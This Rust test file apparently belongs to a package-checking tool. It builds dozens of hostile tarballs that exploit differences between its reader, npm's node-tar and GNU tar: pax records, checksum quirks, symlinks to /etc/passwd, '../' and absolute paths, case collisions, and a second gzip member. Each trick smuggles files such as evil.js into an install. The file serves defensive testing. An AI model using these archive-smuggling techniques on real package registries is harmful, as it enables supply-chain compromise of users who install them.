        hostile(
            "pax mode (node-tar applies it)",
            tar_of(&[pax(&[("mode", "493")]), genuine()]),
            Malformed,
        ),
        hostile(
            "pax type (node-tar copies it onto the entry)",
            tar_of(&[pax(&[("type", "2")]), genuine()]),
            Malformed,
        ),
        hostile(
            "pax value with a newline (node-tar splits it into two records)",
            tar_of(&[
                pax_entry(
                    {
                        let inner = pax_record("path", "package/evil.js");
                        let body = format!(" comment=x\n{inner}");
                        let mut len = body.len() + 1;
                        while format!("{len}{body}\n").len() != len {
                            len += 1;
                        }
                        format!("{len}{body}\n")
                    }
                    .as_bytes(),
                ),
                genuine(),
            ]),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "pax linkpath",
            tar_of(&[pax(&[("linkpath", "/etc/passwd")]), genuine()]),
            UnsupportedFileType,
        ),
        hostile(
            "pax path twice",
            tar_of(&[
                pax(&[("path", "package/index.js"), ("path", "package/evil.js")]),
                genuine(),
            ]),
            Malformed,
        ),
        hostile(
            "pax record length with a leading zero",
            tar_of(&[pax_entry(b"023 path=package/a.js\n"), genuine()]),
            Malformed,
        ),
        hostile(
            "empty pax header",
            tar_of(&[pax_entry(b""), genuine()]),
            Malformed,
        ),
        hostile(
            "non-ASCII pax path unlike the header's name",
            tar_of(&[
                pax(&[("path", "package/ünï.js")]),
                ent(
                    Hdr::new("package/index.js", b'0', GENUINE.len()).sealed(),
                    GENUINE,
                ),
            ]),
            Malformed,
        ),
        hostile(
            "GNU long name",
            tar_of(&[
                ent(
                    Hdr::new("././@LongLink", b'L', 16).sealed(),
                    b"package/evil.js\0",
                ),
                genuine(),
            ]),
            Malformed,
        ),
        hostile(
            "GNU long link name",
            tar_of(&[
                ent(Hdr::new("././@LongLink", b'K', 4).sealed(), b"abc\0"),
                genuine(),
            ]),
            Malformed,
        ),
        hostile(
            "base-256 size",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', 0)
                    .at(
                        124,
                        &[0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, GENUINE.len() as u8],
                    )
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        ),
        hostile(
            "size with a trailing letter (node-tar reads the digits)",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', 0)
                    .at(124, format!("{:010o}x\0", GENUINE.len()).as_bytes())
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        ),
        hostile(
            "checksum of 8 digits (node-tar reads 12 bytes, skips the header)",
            tar_of(&[{
                let mut h = Hdr::new("package/index.js", b'0', smuggled.len()).sealed();
                let sum: u32 = h
                    .iter()
                    .enumerate()
                    .map(|(i, &b)| {
                        if (148..156).contains(&i) {
                            32
                        } else {
                            u32::from(b)
                        }
                    })
                    .sum();
                h[148..156].copy_from_slice(format!("{sum:08o}").as_bytes());
                ent(h, &smuggled)
            }]),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "signed checksum (GNU tar accepts it, node-tar does not)",
            tar_of(&[{
                let mut h = Hdr::new("package/index.js", b'0', GENUINE.len())
                    .at(265, &[0xff; 8])
                    .0;
                h[148..156].copy_from_slice(b"        ");
                let signed: i64 = h.iter().map(|&b| i64::from(b as i8)).sum();
                h[148..156].copy_from_slice(format!("{signed:06o}\0 ").as_bytes());
                ent(h.to_vec(), GENUINE)
            }]),
            Malformed,
        ),
        hostile(
            "name with bytes after its NUL (node-tar keeps what follows a newline)",
            tar_of(&[ent(Hdr::new(&nul_name, b'0', EVIL.len()).sealed(), EVIL)]),
            Malformed,
        )
        .npm(format!("a.js\n/{}", &nul_name[15..])),
        hostile(
            "link name on a regular file (node-tar skips the header)",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', smuggled.len())
                    .at(157, b"x")
                    .sealed(),
                &smuggled,
            )]),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "symbolic link with its target",
            tar_of(&[
                genuine(),
                ent(
                    Hdr::new("package/l", b'2', 0)
                        .at(157, b"/etc/passwd")
                        .sealed(),
                    b"",
                ),
            ]),
            UnsupportedFileType,
        ),
        hostile(
            "GNU magic with a prefix (only a naive reader joins it)",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', GENUINE.len())
                    .at(257, b"ustar  \0")
                    .at(345, b"package/lib")
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        ),
        hostile(
            "ustar magic with another version (GNU tar joins the prefix, node-tar not)",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', GENUINE.len())
                    .at(263, b"  ")
                    .at(345, b"package/lib")
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        ),
        hostile(
            "empty prefix with byte 475 set (node-tar reads /package/...)",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', GENUINE.len())
                    .at(475, b"x")
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        )
        .npm("package/index.js"),
        hostile(
            "contiguous file type 7",
            tar_of(&[entry("package/index.js", b'7', GENUINE)]),
            Malformed,
        ),
        hostile(
            "old GNU sparse file",
            tar_of(&[entry("package/index.js", b'S', GENUINE)]),
            Malformed,
        ),
        hostile(
            "setuid mode",
            tar_of(&[ent(
                Hdr::new("package/index.js", b'0', GENUINE.len())
                    .at(100, b"0004755")
                    .sealed(),
                GENUINE,
            )]),
            Malformed,
        ),
        hostile(
            "same path twice (npm keeps the last)",
            tar_of(&[genuine(), file("package/index.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "a file that is also a folder",
            tar_of(&[genuine(), file("package/index.js/x.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "a folder entry on a file's path",
            tar_of(&[
                genuine(),
                ent(Hdr::new("package/index.js/", b'5', 0).sealed(), b""),
            ]),
            UnsafePath,
        ),
        hostile(
            "paths that differ in case",
            tar_of(&[genuine(), file("package/INDEX.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "folders that differ in case",
            tar_of(&[
                file("package/Lib/a.js", GENUINE),
                file("package/lib/b.js", EVIL),
            ]),
            UnsafePath,
        ),
        hostile(
            "non-ASCII names that differ in case (one file on macOS and Windows)",
            tar_of(&[file("package/Ä.js", GENUINE), file("package/ä.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "non-ASCII folders that differ in case",
            tar_of(&[
                file("package/Ü/a.js", GENUINE),
                file("package/ü/b.js", EVIL),
            ]),
            UnsafePath,
        ),
        hostile(
            "a folder entry whose name differs in case from a file's folder",
            tar_of(&[
                ent(Hdr::new("package/LIB/", b'5', 0).sealed(), b""),
                file("package/lib/a.js", GENUINE),
            ]),
            UnsafePath,
        ),
        hostile(
            "a name with a trailing dot (the same file as index.js on Windows)",
            tar_of(&[genuine(), file("package/index.js.", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "a folder with a trailing space",
            tar_of(&[genuine(), file("package/lib /a.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "a lone zero block, then more entries",
            [genuine(), vec![0; 512], tar_of(&[evil()])].concat(),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "one zero block at the end",
            [genuine(), vec![0; 512]].concat(),
            Malformed,
        ),
        hostile(
            "data after the end-of-archive marker",
            [tar_of(&[genuine()]), evil()].concat(),
            Malformed,
        ),
        hostile(
            "drive letter after the leading folder (node-tar strips it)",
            tar_of(&[file("package/c:index.js", EVIL)]),
            UnsafePath,
        )
        .npm7("index.js"),
        hostile(
            "dot-dot after the leading folder",
            tar_of(&[file("package/../evil.js", EVIL)]),
            UnsafePath,
        ),
        hostile(
            "absolute path",
            tar_of(&[file("/package/evil.js", EVIL)]),
            UnsafePath,
        )
        .npm("package/evil.js"),
        hostile(
            "a file named like the leading folder",
            tar_of(&[file("package", EVIL), genuine()]),
            UnsafePath,
        ),
        hostile(
            "two leading folders (npm strips whatever comes first)",
            tar_of(&[genuine(), file("other/evil.js", EVIL)]),
            UnsafePath,
        )
        .npm("evil.js"),
        hostile(
            "code hidden in .omega/, which the digest leaves out",
            tar_of(&[genuine(), file("package/.omega/evil.js", EVIL)]),
            UnsafePath,
        )
        .npm(".omega/evil.js"),
        hostile(
            ".gitignore (npm installs it as .npmignore)",
            tar_of(&[genuine(), file("package/.gitignore", b"x\n")]),
            UnsafePath,
        )
        .npm(".npmignore"),
        hostile(
            "deeper than node-tar's maxDepth (npm skips it)",
            tar_of(&[
                pax(&[("path", &format!("package/{}x.js", "d/".repeat(1024)))]),
                file("package/deep.js", GENUINE),
            ]),
            UnsafePath,
        ),
        hostile(
            "entry without a name",
            tar_of(&[ent(Hdr::new("", b'0', 1).sealed(), b"x"), genuine()]),
            UnsafePath,
        ),
        hostile(
            "file larger than MAX_FILE_BYTES",
            [Hdr::new("package/big", b'0', 0)
                .at(
                    124,
                    format!("{:011o}", omega_core::limits::MAX_FILE_BYTES + 1).as_bytes(),
                )
                .sealed()]
            .concat(),
            TooLarge,
        ),
    ];
    // Concatenated gzip members: zlib (and so npm) reads on into the second one.
    let first = write_like(&[genuine()].concat());
    let second = write_like(&tar_of(&[evil()]));
    v.push(Hostile {
        name: "a second gzip member",
        tgz: [first, second].concat(),
        code: Malformed,
        npm_installs: Some("evil.js".into()),
        npm7_only: false,
        gnu_installs: Some("evil.js".into()),
    });
    // A gzip header checksum (FHCRC) that does not match.
    let mut fhcrc = write_like(&tar_of(&[genuine()]));
    fhcrc[3] |= 0x02;
    fhcrc.splice(10..10, [0xde, 0xad]);
    v.push(Hostile {
        name: "wrong gzip header checksum",
        tgz: fhcrc,
        code: Malformed,
        npm_installs: None,
        npm7_only: false,
        gnu_installs: None,
    });
    v
}

#[test]
fn differential_hostile_archives_are_refused() {
    let hostile = hostile_archives();
    let cases: Vec<(String, Vec<u8>)> = hostile
        .iter()
        .map(|h| (h.name.to_string(), h.tgz.clone()))
        .collect();
    let (runs, mismatches) = differential(&cases);
    let mut failures = mismatches;
    for (h, r) in hostile.iter().zip(&runs) {
        match &r.ours {
            Ok(files) => failures.push(format!(
                "{}: accepted, with files {:?}",
                h.name,
                names(files)
            )),
            Err(e) if e.code() != h.code => {
                failures.push(format!("{}: refused with {e}, expected {}", h.name, h.code))
            }
            Err(_) => {}
        }
        // The attack is real: the extractor installs something a naive reader never saw.
        // (An npm whose node-tar is older than 7 does not fall for every attack: then only the
        // refusal above is checked for those.)
        let major = node_tar_version_number().0;
        if let Some(p) = h
            .npm_installs
            .as_ref()
            .filter(|_| major >= 7 || !h.npm7_only)
        {
            assert!(
                r.npm.1.iter().any(|f| f.0 == *p),
                "{}: expected npm's node-tar ({}) to install {p:?}; it installed {:?} (warnings \
                 {:?})",
                h.name,
                node_tar_version(),
                names(&r.npm.1),
                r.npm.0
            );
        }
        if let Some(p) = &h.gnu_installs {
            assert!(
                r.gnu.2.iter().any(|f| f.0 == *p),
                "{}: expected GNU tar to install {p:?}; it installed {:?} ({})",
                h.name,
                names(&r.gnu.2),
                r.gnu.1
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// xorshift64*: a fixed-seed generator, so the mutation test is the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// The offsets of the header blocks of a tar stream (sizes read naively, as octal).
fn header_offsets(tar: &[u8]) -> Vec<usize> {
    let mut out = Vec::new();
    let mut pos = 0;
    while pos + 512 <= tar.len() && tar[pos..pos + 512].iter().any(|&b| b != 0) {
        out.push(pos);
        let size = std::str::from_utf8(&tar[pos + 124..pos + 136])
            .ok()
            .and_then(|s| u64::from_str_radix(s.trim_matches(|c| c == ' ' || c == '\0'), 8).ok())
            .unwrap_or(0) as usize;
        pos += 512 + size.div_ceil(512) * 512;
    }
    out
}

fn reseal(block: &mut [u8]) {
    block[148..156].copy_from_slice(b"        ");
    let sum: u32 = block.iter().map(|&b| u32::from(b)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
}

/// Differential fuzzing: thousands of mutants of real archives (GNU tar, npm pack, ours, hand
/// made) — bytes of headers and pax records changed to values that matter to tar readers,
/// checksums fixed up, entries dropped, repeated or given another type. Every mutant our
/// reader accepts must extract, with GNU tar and with npm's node-tar, to exactly the files
/// it reported.
#[test]
fn differential_mutated_archives_never_split_the_readers() {
    const INTERESTING: &[u8] = b"\0 /.0157x5gLKS2\n=:\\Aa\x80\xff";
    let bases: Vec<Vec<u8>> = accepted_archives()
        .into_iter()
        .map(|(_, tgz)| gunzip(&tgz, 1 << 30).unwrap())
        .collect();
    let mut rng = Rng(0x6f6d_6567_615f_7461);
    let mut accepted = Vec::new();
    let mut tried = 0;
    while tried < 4000 {
        tried += 1;
        let mut tar = bases[rng.below(bases.len())].clone();
        let headers = header_offsets(&tar);
        let h = headers[rng.below(headers.len())];
        match rng.below(8) {
            // Drop an entry, or repeat it.
            0 => {
                let next = headers
                    .iter()
                    .find(|&&o| o > h)
                    .copied()
                    .unwrap_or_else(|| header_offsets(&tar).last().map_or(h, |_| tar.len() - 1024));
                let piece: Vec<u8> = tar[h..next].to_vec();
                if rng.below(2) == 0 {
                    tar.drain(h..next);
                } else {
                    tar.splice(next..next, piece);
                }
            }
            // Another entry type.
            1 => {
                tar[h + 156] = b"0575xgLKS12\0"[rng.below(12)];
                reseal(&mut tar[h..h + 512]);
            }
            // Bytes in the pax records or file data that follow a header.
            2 if h + 1024 <= tar.len() => {
                let i = h + 512 + rng.below(512);
                tar[i] = INTERESTING[rng.below(INTERESTING.len())];
            }
            // Bytes of a header, usually with the checksum fixed up.
            _ => {
                for _ in 0..1 + rng.below(3) {
                    let field = [0, 90, 100, 124, 136, 148, 156, 157, 257, 263, 345, 475, 500];
                    let i = field[rng.below(field.len())] + rng.below(12);
                    tar[h + i.min(511)] = INTERESTING[rng.below(INTERESTING.len())];
                }
                if rng.below(4) != 0 {
                    reseal(&mut tar[h..h + 512]);
                }
            }
        }
        if read_tar(&tar).is_ok() && !bases.contains(&tar) {
            accepted.push((format!("mutant {tried}"), tar));
        }
    }
    assert!(
        accepted.len() >= 200,
        "only {} of {tried} mutants were accepted: the mutations no longer reach the reader's \
         acceptance paths",
        accepted.len()
    );
    let cases: Vec<(String, Vec<u8>)> = accepted
        .into_iter()
        .map(|(label, tar)| (label, write_like(&tar)))
        .collect();
    let (_, mismatches) = differential(&cases);
    assert!(
        mismatches.is_empty(),
        "{} of {} accepted mutants extract differently:\n{}",
        mismatches.len(),
        cases.len(),
        mismatches.join("\n")
    );
}

/// The fuzz target refuses to start when a committed seed no longer parses: keep them valid.
#[test]
fn fuzz_seeds_still_read() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/tarball");
    let mut n = 0;
    for e in fs::read_dir(&dir).unwrap() {
        let data = fs::read(e.unwrap().path()).unwrap();
        assert!(read_tgz(&data).is_ok() || read_tar(&data).is_ok());
        n += 1;
    }
    assert!(n > 0, "no seeds in {}", dir.display());
}
